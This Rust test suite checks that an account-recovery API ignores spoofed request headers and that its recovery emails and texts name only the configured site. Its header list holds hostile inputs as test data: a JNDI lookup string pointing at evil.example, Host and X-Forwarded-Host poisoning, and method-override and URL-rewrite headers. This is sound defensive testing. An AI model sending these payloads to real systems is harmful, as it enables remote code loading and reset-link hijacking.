//! Headers that lie change no answer and no message: whatever stands in them, the answer is the one without
//! them, and messages name the configured site and no other.

use futures_util::future::join_all;
use regain_http_api::routes::ROUTES;
use reqwest::RequestBuilder;
use serde_json::{Value, json};

use crate::contract_bad_input::{UNKNOWN, Watched, operations, post};
use crate::contract_odd_requests::are_alike;
use crate::harness::{Answer, Api, NEW_PASSWORD, Person, Stack};

/// Headers by which others are made to believe something.
const POISON: &[(&str, &str)] = &[
    // Hosts that the local stack's gateway lets through; the others are below.
    ("host", "evil"),
    ("host", "evil:9999"),
    ("host", "evil.localhost"),
    ("host", "203.0.113.1"),
    ("x-forwarded-host", "evil.example"),
    ("x-forwarded-for", "203.0.113.1, nonsense, ::1"),
    ("x-forwarded-proto", "javascript"),
    ("x-forwarded-port", "99999999"),
    ("x-forwarded-prefix", "/evil"),
    ("forwarded", "for=evil;host=evil.example;proto=gopher"),
    ("x-http-method-override", "DELETE"),
    ("x-http-method", "DELETE"),
    ("x-method-override", "DELETE"),
    ("x-original-url", "/nowhere"),
    ("x-rewrite-url", "/nowhere"),
    ("x-original-host", "evil.example"),
    ("x-request-id", "chosen-by-the-client"),
    ("x-amzn-requestid", "chosen-by-the-client"),
    ("x-amzn-trace-id", "Root=nonsense"),
    ("x-amz-date", "nonsense"),
    ("lambda-runtime-aws-request-id", "chosen-by-the-client"),
    ("x-forwarded-server", "evil.example"),
    ("x-forwarded-scheme", "gopher"),
    ("x-host", "evil.example"),
    ("x-real-ip", "203.0.113.1"),
    ("referer", "https://evil.example/"),
    ("via", "1.1 evil.example"),
    // Who takes HTML gets a page where there is nothing, and only there.
    ("accept", "application/xml"),
    ("accept-encoding", "gzip, br, nonsense"),
    ("accept-language", "\u{e9}"),
    ("range", "bytes=0-1"),
    ("if-none-match", "*"),
    ("expect", "nonsense"),
    ("content-encoding", "nonsense"),
    ("origin", "https://evil.example"),
    ("cookie", "\u{e9}=;;;="),
    ("user-agent", "${jndi:ldap://evil.example/}"),
];

/// Hosts for which the local stack's gateway is not there, as API Gateway isn't for other domain names than its own.
const FOREIGN_HOSTS: &[&str] = &[
    "evil.example",
    "evil.example:99999",
    "evil.example/path?query#fragment",
    "user@evil.example",
    "[::1",
    "a b",
    "",
    "\u{e9}.example",
];

/// A request with a header of the list.
fn poisoned(request: RequestBuilder, (name, value): (&str, &str)) -> RequestBuilder {
    request.header(name, value)
}

#[tokio::test]
async fn headers_that_lie_change_no_answer() {
    let watched = Watched::start().await;
    let api = &watched.api;
    let bodies = operations();
    // Every route, with a body that is none where it takes one, so that it may be repeated; a path that is none; and a
    // method that is none.
    let mut calls: Vec<(&str, String)> =
        ROUTES.iter().map(|route| (route.method, route.path.replace("{challenge_id}", UNKNOWN))).collect();
    calls.extend([("GET", "/nowhere".to_owned()), ("PUT", "/v1/sessions".to_owned())]);
    for (method, path) in &calls {
        let request = || {
            if *method == "POST" {
                assert!(bodies.iter().any(|(known, _)| known == path), "{path}");
                post(api, path, "application/json", "{")
            } else {
                api.request(method, path).bearer_auth("A".repeat(64))
            }
        };
        let plain = api.send(request()).await;
        for poison in POISON {
            let answer = api.send(poisoned(request(), *poison)).await;
            are_alike(&answer, &plain, &(method, path, poison));
            assert_ne!(answer.header("x-request-id"), "chosen-by-the-client");
        }
        for host in FOREIGN_HOSTS {
            let answer = request().header("host", *host).send().await.unwrap();
            assert!(matches!(answer.status().as_u16(), 400 | 403), "{host}: {answer:?}");
        }
    }
    let many = (0..40).fold(api.request("GET", "/v1/health"), |request, n| {
        request.header(format!("x-many-{n}"), "x").header("x-many", n.to_string())
    });
    assert_eq!(api.send(many).await.status, 200);
    let long = api.request("GET", "/v1/health").header("x-long", "x".repeat(8_192));
    assert_eq!(api.send(long).await.status, 200);
    watched.nothing_happened().await;
}

/// Another site than the API's own address, so that the two can be told apart.
const ORIGIN: &str = "https://accounts.regain.example";
const HOST: &str = "accounts.regain.example";
const SUPPORT: &str = "https://accounts.regain.example/help";
const SENDER: &str = "Regain <no-reply@sender.example>";

/// Fails if a message names another site than the configured one, or comes from elsewhere.
#[track_caller]
fn names_no_other_site(message: &Value, poison: &dyn std::fmt::Debug) {
    let shown = format!("{poison:?}: {message}");
    for member in ["subject", "text", "html"] {
        let text = message[member].as_str().unwrap_or_default();
        // No address but the site's, in the line for phones too; and what continues its host is another host.
        let line = if message["channel"] == "sms" { text } else { "" };
        for host in text.split("://").skip(1).chain(line.split('@').skip(1)) {
            let rest = host.strip_prefix(HOST).unwrap_or_else(|| panic!("another site: {shown}"));
            assert!(!rest.starts_with(|c: char| c.is_alphanumeric() || ".:-@".contains(c)), "{shown}");
        }
        assert!(
            !text.contains("evil") && !text.contains("127.0.0.1") && !text.contains("203.0.113"),
            "{shown}"
        );
    }
    if message["channel"] == "email" {
        assert_eq!(message["from"], SENDER, "{shown}");
    }
}

/// Recovers somebody's account, with a header in every request; and reads every message.
async fn recover(api: &Api, person: &Person, poison: &(&str, &str)) {
    let call = |method: &str, path: &str, token: &str, body: Value| {
        let request = poisoned(api.request(method, path), *poison);
        let request = if token.is_empty() { request } else { request.bearer_auth(token) };
        api.send(if body.is_null() { request } else { request.json(&body) })
    };
    let is = |answer: &Answer, status: u16| assert_eq!(answer.status, status, "{poison:?}: {answer:?}");

    let by_text = call("POST", "/v1/challenges", "", json!({"identifier": person.phone})).await;
    is(&by_text, 202);
    let text = api.message(&person.phone, &by_text.text("reference")).await;
    names_no_other_site(&text, poison);
    let bound = format!("\n@{HOST} #{}", text["code"].as_str().unwrap());
    assert!(text["text"].as_str().unwrap().ends_with(&bound), "{poison:?}: {text}");

    let by_email = call("POST", "/v1/challenges", "", json!({"identifier": person.email})).await;
    is(&by_email, 202);
    let email = api.message(&person.email, &by_email.text("reference")).await;
    names_no_other_site(&email, poison);

    let path = format!("/v1/challenges/{}/verify", by_email.text("challenge_id"));
    let verified = call("POST", &path, "", json!({"code": email["code"]})).await;
    is(&verified, 200);
    let token = verified.text("verification_token");
    is(&call("POST", "/v1/password", &token, json!({"password": NEW_PASSWORD})).await, 200);
    for address in [&person.email, &person.phone] {
        let notice = api.message_without_code(address).await;
        names_no_other_site(&notice, poison);
        assert!(notice["text"].as_str().unwrap().contains(ORIGIN), "{poison:?}: {notice}");
    }

    let credentials = json!({"identifier": person.email, "password": NEW_PASSWORD});
    let signed_in = call("POST", "/v1/sessions", "", credentials).await;
    is(&signed_in, 201);
    let session = signed_in.text("session_token");
    is(&call("GET", "/v1/sessions/current", &session, Value::Null).await, 200);
    is(&call("DELETE", "/v1/sessions", &session, Value::Null).await, 204);
    is(&call("GET", "/v1/sessions/current", &session, Value::Null).await, 401);
    let page = call("GET", "/.well-known/change-password", "", Value::Null).await;
    assert_eq!(page.header("location"), format!("{ORIGIN}/change-password"), "{poison:?}");
}

#[tokio::test]
async fn headers_that_lie_name_no_other_site_in_any_message() {
    let stack = Stack::start(&[
        ("REGAIN_ORIGIN", ORIGIN),
        ("REGAIN_EMAIL_FROM", SENDER),
        ("REGAIN_SUPPORT_URL", SUPPORT),
        // Two for each person, and then the link.
        ("REGAIN_CHALLENGES_PER_ACCOUNT_PER_DAY", "2"),
    ]);
    let api = stack.client();
    join_all(POISON.iter().map(|poison| {
        let (api, person) = (api.clone(), stack.person());
        async move { recover(&api, &person, poison).await }
    }))
    .await;

    // All of them at once, as far as one request has them.
    let person = stack.person();
    let mut all: Vec<(&str, &str)> = POISON.to_vec();
    all.dedup_by_key(|(name, _)| *name);
    for n in 0..3 {
        let request = api.request("POST", "/v1/challenges").json(&json!({"identifier": person.email}));
        let answer = api.send(all.iter().fold(request, |request, poison| poisoned(request, *poison))).await;
        assert_eq!(answer.status, 202, "{answer:?}");
        if n < 2 {
            api.message(&person.email, &answer.text("reference")).await;
        }
    }
    let token = api.recovery_link(&[&person.email]).await;
    let messages = api.messages(&person.email, 0).await;
    assert_eq!(messages.len(), 3);
    for message in &messages {
        names_no_other_site(message, &"all");
    }
    let link = format!("{ORIGIN}/recover/link#token={token}");
    assert!(messages[0]["text"].as_str().unwrap().contains(&link), "{messages:?}");
    assert!(messages[0]["html"].as_str().unwrap().contains(&link), "{messages:?}");
    assert_eq!(api.set_password(&token, NEW_PASSWORD).await.status, 200);
}
